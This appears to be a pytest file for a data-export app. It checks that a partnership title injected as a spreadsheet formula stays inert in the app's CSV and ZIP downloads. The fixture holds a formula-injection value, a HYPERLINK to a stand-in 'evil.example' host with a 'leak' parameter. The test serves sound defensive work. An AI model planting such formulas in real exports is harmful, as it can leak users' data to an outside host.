"""The ZIP download of a record whose title is a formula: the CSV inside stays inert (an app of its own, built on a
copy of data/ with that one change)."""

import csv
import io
import shutil
import zipfile

from app import create_app
from ascn import load_dataset
from ascn.settings import Settings
from tests.support import DATA


def test_a_title_that_is_a_formula_stays_inert_in_the_zips_csv(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    with open(data / "partnerships.csv", encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    formula = '=HYPERLINK("https://evil.example/?leak=1","Click")'
    table[0]["title"] = formula  # partnership 1, in Singapore
    table[0]["notes"] = "@SUM(1+1)"
    with open(data / "partnerships.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(table[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(table)

    client = create_app(load_dataset(data), Settings()).server.test_client()
    got = {ext: client.get(f"/api/partnerships.{ext}?city=singapore") for ext in ("zip", "csv")}
    assert all(response.status_code == 200 for response in got.values())
    from_zip = zipfile.ZipFile(io.BytesIO(got["zip"].data)).read("partnerships.csv")
    assert from_zip == got["csv"].data
    rows = {r["partnership_id"]: r for r in csv.DictReader(io.StringIO(from_zip.decode("utf-8")))}
    assert rows["1"]["title"] == "'" + formula
    assert rows["1"]["notes"] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
